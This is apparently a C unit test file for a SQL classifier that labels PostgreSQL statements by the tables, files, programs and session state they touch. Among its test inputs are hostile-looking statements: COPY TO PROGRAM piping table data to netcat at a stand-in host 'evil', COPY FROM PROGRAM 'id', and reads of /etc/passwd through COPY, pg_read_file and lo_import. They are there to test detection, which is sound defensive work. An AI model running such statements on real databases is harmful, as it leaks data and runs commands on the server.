/* SPDX-License-Identifier: MIT */
/* What statements do that read and write rows, copy, or belong to a session. */
#include "sqlrow.h"

static void test_rows_of_data(void **state)
{
	static const struct row rows[] = {
		{"SELECT 1", "read", R},
		{"SELECT a FROM t WHERE id = 4711", "read t", R},
		{"SELECT * FROM s.t", "read s.t", R | ST},
		{"TABLE t", "read t", R | ST},
		{"VALUES (1), (2)", "read", R},
		{"SELECT a FROM t FOR UPDATE", "read t, write t", R},
		{"SELECT t.a FROM t JOIN u ON t.id = u.id FOR SHARE OF u",
		 "read t, read u, write u", R},
		{"SELECT x.a FROM (SELECT a FROM t) x FOR UPDATE", "read t, write t", R},
		{"SELECT a INTO n FROM t", "ddl n, read t", CA},
		{"SELECT a FROM t UNION SELECT b FROM u", "read t, read u", R},
		{"WITH x AS (SELECT a FROM t) SELECT a FROM x", "read t", R},
		{"WITH d AS (DELETE FROM t RETURNING id) SELECT id FROM d", "read t, write t", R},
		{"INSERT INTO t VALUES (1, 'a'), ($1, $2)", "write t", 0},
		{"INSERT INTO t (a) VALUES (1) RETURNING id", "read t, write t", R},
		{"INSERT INTO t SELECT a FROM u", "write t, read u", CA},
		{"INSERT INTO t (a) VALUES ((SELECT a FROM u))", "write t, read u", CA},
		{"INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a",
		 "write t, read t", 0},
		{"UPDATE t SET a = 1 WHERE b = 'x'", "write t", 0},
		{"UPDATE t SET a = b + 1", "write t", CA},
		{"UPDATE t SET (a, b) = (SELECT c, d FROM u)", "write t, read u", CA},
		{"UPDATE t SET a = 1 FROM u WHERE u.id = t.id RETURNING t.b",
		 "read t, write t, read u", R},
		{"DELETE FROM t USING u WHERE t.id = u.id", "write t, read u", 0},
		{"MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE",
		 "write t, read u", 0},
		{"MERGE INTO t USING u ON t.id = u.id WHEN NOT MATCHED THEN INSERT VALUES (u.a)",
		 "write t, read u", CA},
		{"TRUNCATE t, s.u", "write t, write s.u", 0},
		{"LOCK TABLE t IN EXCLUSIVE MODE", "write t", 0},
		{"", "", SQL_F_EMPTY},
		{" ; ; -- nothing", "", SQL_F_EMPTY},
		{"SELEC 1", "unknown", UNKNOWN},
		{"SELECT 'abc", "unknown", UNKNOWN},
	};

	check_rows(rows, ARRAY_SIZE(rows));
}

static void test_copy(void **state)
{
	static const struct row rows[] = {
		{"COPY s.t TO STDOUT", "read s.t", ST | SQL_F_COPY_OUT},
		{"COPY t (a, b) TO STDOUT", "read t", SQL_F_COPY_OUT},
		{"COPY (SELECT a FROM t) TO STDOUT", "read t", SQL_F_COPY_OUT},
		{"COPY (DELETE FROM t RETURNING a) TO STDOUT", "read t, write t", SQL_F_COPY_OUT},
		{"COPY t FROM STDIN", "write t", SQL_F_COPY_IN},
		{"COPY t FROM STDIN WHERE f(a)", "write t, procedure f()", SQL_F_COPY_IN | UF},
		{"COPY t TO '/tmp/x'", "read t, file '/tmp/x'", ST | CA | LI},
		{"COPY t FROM '/etc/passwd'", "write t, file '/etc/passwd'", LI},
		{"COPY t TO PROGRAM 'nc evil 1'", "read t, program 'nc evil 1'", ST | CA | LI},
		{"COPY t FROM PROGRAM 'id'", "write t, program 'id'", LI},
		{"COPY t TO STDOUT (ENCODING 'sjis')", "read t, unknown",
		 UNKNOWN | LI | SQL_F_COPY_OUT},
		{"COPY t TO STDOUT; COPY u TO STDOUT", "read t, read u, unknown",
		 UNKNOWN | SQL_F_COPY_OUT | SQL_F_MULTI},
	};

	check_rows(rows, ARRAY_SIZE(rows));
}

static void test_copy_options(void **state)
{
	static const struct {
		const char *sql;
		bool query, binary, csv, header;
		char delim, quote, escape;
		const char *null_text, *schema, *relation, *columns;
	} rows[] = {
		{.sql = "COPY s.t TO STDOUT", .delim = '\t', .quote = '"', .escape = '"',
		 .null_text = "\\N", .schema = "s", .relation = "t", .columns = ""},
		{.sql = "COPY t (a, \"B\") FROM STDIN", .delim = '\t', .quote = '"', .escape = '"',
		 .null_text = "\\N", .relation = "t", .columns = "a B "},
		{.sql = "COPY t TO STDOUT WITH (FORMAT csv, HEADER)", .csv = true, .header = true,
		 .delim = ',', .quote = '"', .escape = '"', .null_text = "", .relation = "t",
		 .columns = ""},
		{.sql = "COPY t TO STDOUT (FORMAT csv, HEADER false, QUOTE '''', NULL '-', "
			"DELIMITER ';')",
		 .csv = true, .delim = ';', .quote = '\'', .escape = '\'', .null_text = "-",
		 .relation = "t", .columns = ""},
		{.sql = "COPY t TO STDOUT (FORMAT csv, ESCAPE E'\\\\')", .csv = true, .delim = ',',
		 .quote = '"', .escape = '\\', .null_text = "", .relation = "t", .columns = ""},
		{.sql = "COPY t TO STDOUT CSV HEADER DELIMITER '|'", .csv = true, .header = true,
		 .delim = '|', .quote = '"', .escape = '"', .null_text = "", .relation = "t",
		 .columns = ""},
		{.sql = "COPY BINARY t TO STDOUT", .binary = true, .delim = '\t', .quote = '"',
		 .escape = '"', .null_text = "\\N", .relation = "t", .columns = ""},
		{.sql = "COPY (SELECT 1) TO STDOUT (FORMAT binary)", .query = true, .binary = true,
		 .delim = '\t', .quote = '"', .escape = '"', .null_text = "\\N", .columns = ""},
	};
	struct sql *s;

	assert_int_equal(sql_new(NULL, &s), 0);
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		const struct sql_info *info = sql_classify(s, slice_str(rows[i].sql), 0);
		const struct sql_copy *c = info->copy;
		char columns[64] = "";
		size_t n = 0;

		assert_non_null(c);
		assert_int_equal(c->query, rows[i].query);
		assert_int_equal(c->binary, rows[i].binary);
		assert_int_equal(c->csv, rows[i].csv);
		assert_int_equal(c->header, rows[i].header);
		assert_int_equal(c->delim, (uint8_t)rows[i].delim);
		assert_int_equal(c->quote, (uint8_t)rows[i].quote);
		assert_int_equal(c->escape, (uint8_t)rows[i].escape);
		assert_true(slice_eq_str(c->null_text, rows[i].null_text));
		assert_true(slice_eq_str(c->schema, rows[i].schema));
		assert_true(slice_eq_str(c->relation, rows[i].relation));
		for (unsigned j = 0; j < c->ncolumns; j++)
			n += (size_t)snprintf(columns + n, sizeof(columns) - n, "%.*s ",
					      (int)c->columns[j].n, c->columns[j].p);
		assert_string_equal(columns, rows[i].columns);
		sql_info_unref(info);
	}
	sql_free(s);
}

static void test_session(void **state)
{
	static const struct row rows[] = {
		{"BEGIN", "transaction", SQL_F_TX_BEGIN},
		{"START TRANSACTION READ ONLY", "transaction", SQL_F_TX_BEGIN},
		{"COMMIT", "transaction", SQL_F_TX_END | SQL_F_LEXER},
		{"COMMIT AND CHAIN", "transaction", SQL_F_TX_END | SQL_F_TX_BEGIN | SQL_F_LEXER},
		{"ABORT", "transaction", SQL_F_TX_END | SQL_F_LEXER},
		{"PREPARE TRANSACTION 'x'", "transaction", SQL_F_TX_END | SQL_F_LEXER},
		{"COMMIT PREPARED 'x'", "transaction", 0},
		{"SAVEPOINT a", "transaction", 0},
		{"ROLLBACK TO a", "transaction", SQL_F_LEXER},
		{"RELEASE a", "transaction", 0},
		{"SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "transaction", 0},
		{"SET CONSTRAINTS ALL DEFERRED", "transaction", 0},
		{"SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", "session", 0},
		{"BEGIN; DELETE FROM t; COMMIT", "write t, transaction",
		 SQL_F_TX_BEGIN | SQL_F_TX_END | SQL_F_MULTI | SQL_F_LEXER},
		{"SET search_path TO a, b", "session 'search_path'", 0},
		{"SET LOCAL work_mem = '1MB'", "session 'work_mem'", 0},
		{"SET standard_conforming_strings = off", "session 'standard_conforming_strings'",
		 SQL_F_LEXER},
		{"SET NAMES 'SJIS'", "session 'client_encoding'", SQL_F_LEXER},
		{"SET \"Backslash_Quote\" = on", "session 'Backslash_Quote'", SQL_F_LEXER},
		{"RESET client_encoding", "session 'client_encoding'", SQL_F_LEXER},
		{"RESET ALL", "session", SQL_F_LEXER},
		{"DISCARD ALL", "session", SQL_F_LEXER | SQL_F_DEALLOCATE},
		{"DISCARD PLANS", "session", 0},
		{"SHOW ALL", "session 'all'", R},
		{"LISTEN a", "session 'a'", 0},
		{"UNLISTEN *", "session", 0},
		{"NOTIFY a, 'x'", "session 'a'", 0},
		{"UPDATE pg_settings SET setting = 'off'", "write pg_settings, session",
		 SQL_F_LEXER},
		{"PREPARE p AS DELETE FROM t", "write t", SQL_F_PREPARE},
		{"EXECUTE p (1, 'x')", "session", SQL_F_EXECUTE | R},
		{"DEALLOCATE ALL", "session", SQL_F_DEALLOCATE},
		{"DECLARE c CURSOR WITH HOLD FOR SELECT a FROM t", "read t", SQL_F_DECLARE},
		{"FETCH ALL FROM c", "read", SQL_F_FETCH | R},
		{"MOVE c", "read", SQL_F_FETCH},
		{"CLOSE c", "session", SQL_F_CLOSE},
		{"CLOSE ALL", "session", SQL_F_CLOSE},
		{"BEGIN; DECLARE c CURSOR FOR TABLE t; FETCH c; CLOSE c",
		 "read t, transaction, session",
		 SQL_F_TX_BEGIN | SQL_F_DECLARE | SQL_F_FETCH | R | ST | SQL_F_MULTI | SQL_F_CLOSE},
		{"PREPARE p AS SELECT 1; EXECUTE q", "read, session, unknown",
		 SQL_F_PREPARE | SQL_F_EXECUTE | SQL_F_MULTI | UNKNOWN | R},
		{"EXPLAIN DELETE FROM t", "read t", SQL_F_EXPLAIN | R},
		{"EXPLAIN (ANALYZE off, VERBOSE) DELETE FROM t", "read t", SQL_F_EXPLAIN | R | LI},
		{"EXPLAIN ANALYZE DELETE FROM t", "write t", SQL_F_EXPLAIN | R},
		{"EXPLAIN (ANALYZE 1) DELETE FROM t", "write t", SQL_F_EXPLAIN | R | LI},
		{"EXPLAIN (ANALYZE x) CREATE TABLE n AS SELECT a FROM t", "ddl n, read t",
		 SQL_F_EXPLAIN | R | CA | LI},
		{"EXPLAIN SELECT f(a) FROM t", "procedure f(), read t", SQL_F_EXPLAIN | R | UF},
		{"EXPLAIN ANALYZE EXECUTE p", "session", SQL_F_EXPLAIN | SQL_F_EXECUTE | R},
		{"CALL s.p(1)", "procedure s.p()", R | UF},
		{"DO 'begin end'", "program, procedure", LI | UF | CA | ST},
		{"LOAD '/tmp/x.so'", "program '/tmp/x.so'", LI},
	};

	check_rows(rows, ARRAY_SIZE(rows));
}

static void test_handles(void **state)
{
	static const char *const rows[][2] = {
		{"PREPARE p AS SELECT 1", "p"},
		{"EXECUTE \"P q\"", "P q"},
		{"DEALLOCATE PREPARE p", "p"},
		{"DEALLOCATE ALL", ""},
		{"DECLARE c CURSOR FOR SELECT 1", "c"},
		{"FETCH FORWARD 3 FROM c", "c"},
		{"CLOSE c", "c"},
		{"CLOSE ALL", ""},
		{"EXPLAIN EXECUTE p", "p"},
		{"CREATE TABLE t AS EXECUTE p", "p"},
	};
	struct sql *s;

	assert_int_equal(sql_new(NULL, &s), 0);
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		const struct sql_info *info = sql_classify(s, slice_str(rows[i][0]), 0);

		assert_true(slice_eq_str(info->handle, rows[i][1]));
		sql_info_unref(info);
	}
	sql_free(s);
}

static void test_functions(void **state)
{
	static const struct row rows[] = {
		{"SELECT now(), count(*), pg_catalog.lower('x')", "read", R},
		{"SELECT f(1)", "procedure f(), read", R | UF},
		{"SELECT s.lower('x')", "procedure s.lower(), read", R | UF},
		{"SELECT * FROM f(1) AS x (a int)", "procedure f(), read", R | ST | UF},
		{"SELECT a OPERATOR(s.+) b FROM t", "procedure s.+(), read t", R | UF},
		{"SELECT a <=> b FROM t", "procedure <=>(), read t", R | UF},
		{"SELECT a OPERATOR(pg_catalog.+) b FROM t", "read t", R},
		{"SELECT a FROM t WHERE a ==== ANY (SELECT 1)", "read t, procedure ====()",
		 R | UF},
		{"SELECT a FROM t ORDER BY a USING <<<", "read t, procedure <<<()", R | UF},
		{"SELECT a FROM t TABLESAMPLE f(1)", "procedure f(), read t", R | UF},
		{"SELECT nextval('s.q')", "write s.q, read", R | LI},
		{"SELECT nextval($1)", "write nextval(), read", R},
		{"SELECT setval('q', 1)", "write q, read", R | LI},
		{"SELECT pg_read_file('/etc/passwd')", "file pg_read_file(), read", R | LI},
		{"SELECT pg_ls_dir('.')", "file pg_ls_dir(), read", R | LI},
		{"SELECT lo_import('/etc/passwd')", "write lo_import(), file lo_import(), read",
		 R | LI},
		{"SELECT lo_export(1, '/tmp/x')", "read lo_export(), file lo_export()", R | LI},
		{"SELECT pg_terminate_backend(1)", "privilege pg_terminate_backend(), read", R},
		{"SELECT pg_reload_conf()", "privilege pg_reload_conf(), read", R},
		{"SELECT pg_advisory_lock(1)", "session pg_advisory_lock(), read", R},
		{"SELECT set_config('a.b', 'x', true)", "session 'a.b', read", R | LI},
		{"SELECT set_config('role', 'x', true)", "privilege 'role', session 'role', read",
		 R | LI},
		{"SELECT set_config('client_encoding', $1, true)",
		 "session 'client_encoding', read", R | LI | SQL_F_LEXER},
		{"SELECT set_config($1, $2, true)", "privilege, session, read", R | SQL_F_LEXER},
		{"SELECT set_config('a.b', c, true) FROM t", "session 'a.b', read t", R | LI | CA},
		{"SELECT pg_notify('x', a) FROM t", "session pg_notify(), read t", R | LI | CA},
		{"SELECT query_to_xml('delete from t', true, true, '')",
		 "read query_to_xml(), unknown", R | LI | UNKNOWN},
		{"SELECT table_to_xml('t', true, true, '')", "read t", R | LI | ST},
		{"SELECT table_to_xml($1, true, true, '')", "read table_to_xml(), unknown",
		 R | LI | UNKNOWN},
		{"SELECT ts_stat('select 1')", "read ts_stat(), unknown", R | LI | UNKNOWN},
		{"SELECT ts_rewrite(a, b, c) FROM t", "read ts_rewrite(), read t", R | ST},
		{"SELECT dblink('x', 'delete from t')", "procedure dblink(), read, unknown",
		 R | LI | UNKNOWN},
		{"SELECT pg_file_write('x', 'y', true)",
		 "procedure pg_file_write(), file pg_file_write(), read", R | LI | UF},
		{"SELECT 's.t'::regclass", "read", R | LI},
	};

	check_rows(rows, ARRAY_SIZE(rows));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rows_of_data), cmocka_unit_test(test_copy),
		cmocka_unit_test(test_copy_options), cmocka_unit_test(test_session),
		cmocka_unit_test(test_handles),	     cmocka_unit_test(test_functions),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
